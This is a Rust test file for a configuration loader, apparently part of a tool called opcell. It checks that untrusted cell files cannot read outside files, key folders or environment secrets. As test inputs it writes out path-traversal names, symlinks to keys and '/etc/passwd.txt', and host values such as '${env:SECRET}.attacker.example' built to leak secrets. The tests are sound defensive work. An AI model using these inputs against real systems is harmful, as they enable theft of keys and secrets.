//! The reach of a cell file from an unknown author: files below its own folder, and no keys, state, links or
//! environment.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use opcell::testing::config::{self, Memory, Options, Shown};
use testkit::program;

const PLANTED: &str = "planted-swordfish";
const PART: &str = "nodes:\n  Part: { type: Int16, value: 1 }\n";
const ROWS: &str = "tag,type,value\nRow,Int16,1\n";

/// A folder with a cell's folder `cell` in it, and with something planted in each file that a cell must not read.
fn plant() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("a folder");
    let planted = format!("{PLANTED}: {PLANTED}\n");
    for (name, text) in [
        ("outside.yaml", &*planted),
        ("outside.csv", &planted),
        ("outside.txt", &planted),
        ("cell/pki/own/key.pem", &planted),
        ("cell/pki/own/key.yaml", &planted),
        ("cell/pki/own/key.csv", &planted),
        ("cell/state/names.yaml", &planted),
        ("cell/notes.txt", &planted),
        ("cell/key.pem", &planted),
        ("cell/parts/good.yaml", PART),
        ("cell/parts/up.yaml", "include: [../other.yml]\n"),
        ("cell/other.yml", "nodes:\n  Other: { type: Int16, value: 1 }\n"),
        ("cell/rows.csv", ROWS),
        ("cell/host.txt", "127.0.0.1\n"),
    ] {
        let path = dir.path().join(name);
        fs::create_dir_all(path.parent().expect("a folder")).expect("made");
        fs::write(path, text).expect("written");
    }
    for (link, target) in [
        ("cell/out.yaml", "../outside.yaml"),
        ("cell/out.csv", "../outside.csv"),
        ("cell/out.txt", "../outside.txt"),
        ("cell/up", ".."),
        ("cell/key.yaml", "pki/own/key.pem"),
        ("cell/key.csv", "pki/own/key.pem"),
        ("cell/keys", "pki/own"),
        ("cell/inner.yaml", "parts/good.yaml"),
    ] {
        std::os::unix::fs::symlink(target, dir.path().join(link)).expect("linked");
    }
    let made = Command::new("mkfifo").arg(dir.path().join("cell/pipe.yaml")).status().expect("mkfifo runs");
    assert!(made.success());
    dir
}

/// Everything that `check` says of the file.
fn said(path: &Path, options: &Options) -> (bool, String) {
    let (compiled, report) = config::load(path, options);
    (compiled.is_some(), format!("{}{:#}", report.render(Shown::All), report.json()))
}

#[test]
fn a_cell_names_only_files_below_its_own_folder() {
    let dir = plant();
    let cell = dir.path().join("cell/cell.yaml");
    let absolute = |name: &str| dir.path().join(name).display().to_string();
    const OUT: &str = "is outside the folder of the cell file";
    const LINK: &str = "is a link to a place outside the folder of the cell file";
    const CLOSED: &str = "is in a folder of keys, state or history";
    const KEY_LINK: &str = "is a link into a folder of keys, state or history";
    // What is named, by `include`, `rows` and `${file:}` where the kind of file fits; what is said, or nothing.
    for (name, why) in [
        ("parts/good.yaml".to_owned(), ""),
        ("parts/up.yaml".to_owned(), ""),
        ("parts/*.yaml".to_owned(), ""),
        ("inner.yaml".to_owned(), ""),
        ("./other.yml".to_owned(), ""),
        ("rows.csv".to_owned(), ""),
        ("parts/../rows.csv".to_owned(), ""),
        ("host.txt".to_owned(), ""),
        ("../outside.yaml".to_owned(), OUT),
        ("../outside.csv".to_owned(), OUT),
        ("../outside.txt".to_owned(), OUT),
        ("../*.yaml".to_owned(), OUT),
        ("parts/../../outside.yaml".to_owned(), OUT),
        (absolute("outside.yaml"), "is an absolute path"),
        (absolute("*.yaml"), "is an absolute path"),
        (absolute("outside.csv"), "is an absolute path"),
        (absolute("outside.txt"), "is an absolute path"),
        (absolute("cell/rows.csv"), "is an absolute path"),
        ("/etc/passwd.txt".to_owned(), "is an absolute path"),
        ("out.yaml".to_owned(), LINK),
        ("out.csv".to_owned(), LINK),
        ("out.txt".to_owned(), LINK),
        ("up/outside.yaml".to_owned(), LINK),
        ("up/*.yaml".to_owned(), LINK),
        ("up/outside.txt".to_owned(), LINK),
        ("pki/own/key.yaml".to_owned(), CLOSED),
        ("pki/own/key.csv".to_owned(), CLOSED),
        ("pki/own/*.yaml".to_owned(), CLOSED),
        ("parts/../pki/own/key.yaml".to_owned(), CLOSED),
        ("state/names.yaml".to_owned(), CLOSED),
        ("key.yaml".to_owned(), KEY_LINK),
        ("key.csv".to_owned(), KEY_LINK),
        ("keys/key.yaml".to_owned(), KEY_LINK),
        ("up/cell/pki/own/key.yaml".to_owned(), KEY_LINK),
        ("notes.txt.yaml".to_owned(), "cannot read"),
        ("pipe.yaml".to_owned(), "it is not a file"),
    ] {
        let begin = "schema: 1\ncell: a\n";
        let text = match Path::new(&name).extension().and_then(|ending| ending.to_str()) {
            Some("csv") => format!("{begin}nodes:\n  Table: {{ rows: {name:?} }}\n"),
            Some("txt") => format!(
                "{begin}connections:\n  plc: {{ driver: modbus-tcp, host: \"${{file:{name}}}\" }}\nnodes:\n  A: {{ type: Int16, value: 1 }}\n"
            ),
            _ => format!("{begin}include: [{name:?}]\nnodes:\n  A: {{ type: Int16, value: 1 }}\n"),
        };
        fs::write(&cell, text).expect("written");
        let (is_good, said) = said(&cell, &Options::default());
        assert_eq!(is_good, why.is_empty(), "{name}: {said}");
        assert!(said.contains(why), "{name}: {said}");
        assert!(!said.contains("swordfish"), "{name}: {said}");
    }
}

#[test]
fn a_file_of_another_kind_is_not_quoted() {
    let dir = plant();
    let cell = dir.path().join("cell/cell.yaml");
    for (line, why) in [
        ("include: [notes.txt]", "`notes.txt` is not a YAML file"),
        ("include: [key.pem]", "`key.pem` is not a YAML file"),
        ("include: [\"*.pem\"]", "`key.pem` is not a YAML file"),
        ("include: [rows.csv]", "`rows.csv` is not a YAML file"),
        ("nodes: { Table: { rows: notes.txt } }", "`notes.txt` is not a CSV file"),
        ("nodes: { Table: { rows: other.yml } }", "`other.yml` is not a CSV file"),
    ] {
        fs::write(&cell, format!("schema: 1\ncell: a\n{line}\n")).expect("written");
        let (is_good, said) = said(&cell, &Options::default());
        assert!(!is_good && said.contains(why) && !said.contains("swordfish"), "{line}: {said}");
    }
}

fn memory(cell: &str) -> Memory {
    let mut files = Memory::default();
    files.variables.insert("SECRET".into(), PLANTED.into());
    files.variables.insert("PORT".into(), "5020".into());
    files.files.insert("secret.txt".into(), PLANTED.as_bytes().to_vec());
    files.files.insert("cell.yaml".into(), cell.as_bytes().to_vec());
    files
}

#[test]
fn only_keys_that_the_schema_marks_take_a_text_from_outside() {
    const NODES: &str = "nodes:\n  ";
    for (line, key) in [
        ("cell: \"{}\"", "cell"),
        ("namespace: \"{}\"", "namespace"),
        ("include: [\"{}\"]", "a list"),
        ("defaults: { history: \"{}\" }", "history"),
        ("defaults: { access: { read: [\"{}\"] } }", "a list"),
        ("types: { enums: { State: { 0: \"{}\" } } }", "0"),
        ("connections:\n  plc: { driver: \"{}\", host: a }", "driver"),
        ("connections:\n  plc: { driver: modbus-tcp, host: a, description: \"{}\" }", "description"),
        ("connections:\n  plc: { driver: modbus-tcp, host: a, timeout: \"{}\" }", "timeout"),
        ("{nodes}A: { type: String, value: \"{}\" }", "value"),
        ("{nodes}A: { type: String, value: x, description: \"{}\" }", "description"),
        ("{nodes}A: { type: String, value: x, description: { en: \"{}\" } }", "en"),
        ("{nodes}A: { type: String, value: x, display_name: \"{}\" }", "display_name"),
        ("{nodes}A: { type: Double, value: 1, unit: \"{}\" }", "unit"),
        ("{nodes}A: { type: String, value: x, id: \"{}\" }", "id"),
        ("{nodes}A: { type: Double, value: 1, simulate: \"{}\" }", "simulate"),
        ("{nodes}A: { type: Double, source: \"{}\" }", "source"),
        ("{nodes}A: { type: Double, source: { host: \"{}\" } }", "host"),
        ("{nodes}connections: { children: { A: { host: \"{}\" } } }", "host"),
        ("{nodes}A: { of: Pump, with: { password_hash: \"{}\" } }", "password_hash"),
        ("{nodes}A: { rows: \"{}\" }", "rows"),
        ("users: { anna: { password_hash: \"{}\" } }", "password_hash"),
    ] {
        for notation in ["${env:SECRET}", "${file:secret.txt}", "${env:NONE|x}", "a ${env:SECRET} b"] {
            let line = line.replace("{nodes}", NODES).replace("{}", notation);
            let begin = if line.starts_with("cell:") { "schema: 1\n" } else { "schema: 1\ncell: a\n" };
            let files = memory(&format!("{begin}{line}\n"));
            let (compiled, report) = config::load_from(&files, Path::new("cell.yaml"), &Options::default());
            let said = format!("{}{:#}", report.render(Shown::All), report.json());
            let what = if key == "a list" { key.to_owned() } else { format!("`{key}`") };
            assert!(
                compiled.is_none() && said.contains(&format!("`${{…}}` cannot be used in {what}")),
                "{line}: {said}"
            );
            assert!(!said.contains("swordfish"), "{line}: {said}");
        }
    }
}

#[test]
fn a_text_from_outside_is_a_whole_value() {
    for (host, why) in [
        ("${env:SECRET}.attacker.example", "text next to `${…}`"),
        ("a${env:SECRET}", "text next to `${…}`"),
        ("${env:SECRET}${env:SECRET}", "text next to `${…}`"),
        ("${file:secret.txt}.attacker.example", "text next to `${…}`"),
        ("${env:SECRET}", ""),
        ("${file:secret.txt}", ""),
        ("${env:NONE|10.0.0.1}", ""),
    ] {
        let connection = format!("  plc: {{ driver: modbus-tcp, host: \"{host}\", port: \"${{env:PORT}}\" }}");
        let files = memory(&format!("schema: 1\ncell: a\nconnections:\n{connection}\n"));
        let (compiled, report) = config::load_from(&files, Path::new("cell.yaml"), &Options::default());
        let said = format!("{}{:#}", report.render(Shown::All), report.json());
        assert_eq!(compiled.is_some(), why.is_empty(), "{host}: {said}");
        assert!(said.contains(why) && !said.contains("swordfish"), "{host}: {said}");
    }
}

#[test]
fn a_host_from_outside_is_not_read_off_another_connection() {
    let mut files = memory(
        "schema: 1\ncell: a\nconnections:\n  a: { driver: modbus-tcp, host: localhost }\n  \
         b: { driver: modbus-tcp, host: \"${env:OTHER}\" }\n",
    );
    files.variables.insert("OTHER".into(), "127.0.0.1".into());
    let (_, report) = config::load_from(&files, Path::new("cell.yaml"), &Options::default());
    let said = report.render(Shown::All);
    assert!(report.is_empty(), "{said}");
}

/// A folder, a server's pattern and the command line meet links that came along with other files.
#[test]
fn a_link_to_a_key_is_quoted_for_no_one() {
    let dir = plant();
    let server = dir.path().join("server.yaml");
    fs::write(&server, "schema: 1\ncells: [\"cell/k*.yaml\"]\n").expect("written");
    fs::write(dir.path().join("cell/cell.yaml"), "schema: 1\ncell: a\n").expect("written");
    std::os::unix::fs::symlink("../outside.txt", dir.path().join("cell/kind.yaml")).expect("linked");
    for (path, why) in [
        ("server.yaml", "`key.pem` is not a YAML file"),
        ("server.yaml", "`outside.txt` is not a YAML file"),
        ("cell", "is a link into a folder of keys, state or history"),
        ("cell/key.yaml", "`key.pem` is not a YAML file"),
        ("cell/kind.yaml", "`outside.txt` is not a YAML file"),
        ("cell/notes.txt", "`notes.txt` is not a YAML file"),
        ("cell/pki/own/key.pem", "`key.pem` is not a YAML file"),
    ] {
        let options = Options { pki_dir: Some(dir.path().join("elsewhere")), ..Options::default() };
        let (is_good, said) = said(&dir.path().join(path), &options);
        assert!(!is_good && said.contains(why) && !said.contains("swordfish"), "{path}: {said}");
    }
}

/// A server file may name any file but those of certificates, state and history, wherever they are.
#[test]
fn the_server_file_reads_no_keys_either() {
    let dir = plant();
    let server = dir.path().join("server.yaml");
    fs::write(dir.path().join("cell/cell.yaml"), "schema: 1\ncell: a\n").expect("written");
    fs::create_dir_all(dir.path().join("history")).expect("made");
    let hash = opcell::testing::ua::users::hash_password(b"a-long-password").expect("a hash");
    for name in ["hash", "history/hash", "cell/hash"] {
        fs::write(dir.path().join(name), &hash).expect("written");
    }
    let absolute = dir.path().join("cell/hash").display().to_string();
    let keys = Options { pki_dir: Some(dir.path().join("cell/keys")), ..Options::default() };
    let closed = "is in a folder of keys, state or history";
    let link = "is a link into a folder of keys, state or history";
    let none = Options::default();
    for (hash, more, options, why) in [
        ("hash", "", &none, ""),
        (&*absolute, "", &none, ""),
        ("history/hash", "", &none, ""),
        ("history/hash", "history: { path: history }\n", &none, closed),
        ("cell/hash", "state_dir: cell\n", &none, closed),
        ("cell/hash", "security: { pki_dir: ./cell/. }\n", &none, closed),
        ("cell/pki/own/key.pem", "", &keys, link),
        ("cell/keys/key.pem", "", &keys, closed),
        ("pki/own/key.pem", "", &none, closed),
        ("state/audit.key", "", &none, closed),
        ("none", "", &none, "cannot read none"),
    ] {
        let user = format!("users: {{ anna: {{ roles: [Operator], password_hash: \"${{file:{hash}}}\" }} }}\n");
        // A cell may not lie where state is, so it is another one there.
        let cells = if more.contains("cell") { "other.yaml" } else { "cell/cell.yaml" };
        fs::write(dir.path().join("other.yaml"), "schema: 1\ncell: a\n").expect("written");
        fs::write(&server, format!("schema: 1\ncells: [{cells}]\n{more}{user}")).expect("written");
        let (is_good, said) = said(&server, options);
        assert_eq!(is_good, why.is_empty(), "{hash} {more}: {said}");
        assert!(said.contains(why) && !said.contains("swordfish") && !said.contains("argon2"), "{hash} {more}: {said}");
    }
    for (cells, why) in
        [("cell/pki/own/key.pem", "`key.pem` is not a YAML file"), ("outside.txt", "`outside.txt` is not a YAML file")]
    {
        fs::write(&server, format!("schema: 1\ncells: [{cells}]\n")).expect("written");
        let (is_good, said) = said(&server, &none);
        assert!(!is_good && said.contains(why) && !said.contains("swordfish"), "{cells}: {said}");
    }
}

#[test]
fn a_state_folder_that_holds_the_cells_hides_no_cell() {
    let dir = plant();
    let cell = "schema: 1\ncell: a\ninclude: [parts/good.yaml]\nnodes:\n  Table: { rows: rows.csv }\n";
    let secret = format!("{cell}connections:\n  plc: {{ driver: modbus-tcp, host: \"${{file:host.txt}}\" }}\n");
    for (text, is_wanted) in [(cell, true), (&secret, false)] {
        fs::write(dir.path().join("cell/cell.yaml"), text).expect("written");
        for (server, cells, state) in
            [("cell/server.yaml", "cell.yaml", "."), ("server.yaml", "cell/cell.yaml", "cell")]
        {
            fs::write(dir.path().join(server), format!("schema: 1\ncells: [{cells}]\nstate_dir: {state}\n"))
                .expect("written");
            let (is_good, said) = said(&dir.path().join(server), &Options::default());
            assert_eq!(is_good, is_wanted, "{state}: {said}");
        }
    }
}

/// `check` of the program, as CI runs it: exit code 2, and nothing of what was planted.
#[test]
fn the_program_prints_nothing_of_a_file_that_it_must_not_read() {
    let dir = plant();
    for (line, folder) in [
        ("include: [pki/own/key.pem]", ""),
        ("nodes: { A: { rows: ../outside.csv } }", ""),
        ("nodes: { A: { type: String, value: \"${file:pki/own/key.pem}\" } }", ""),
        ("nodes: { A: { type: String, value: x, description: \"${env:PATH}\" } }", ""),
    ] {
        let path: PathBuf = dir.path().join("cell").join(folder);
        fs::write(path.join("cell.yaml"), format!("schema: 1\ncell: a\n{line}\n")).expect("written");
        for verb in [&["check", "cell.yaml"][..], &["check", "--json", "cell.yaml"], &["tree", "cell.yaml"]] {
            let said = program::opcell(&path, verb, "");
            assert_eq!(said.code, 2, "{line}: {said:?}");
            let path = std::env::var("PATH").unwrap_or_default();
            let all = format!("{}{}", said.out, said.err);
            assert!(!all.contains("swordfish") && !all.contains(&path), "{line}: {all}");
        }
    }
}
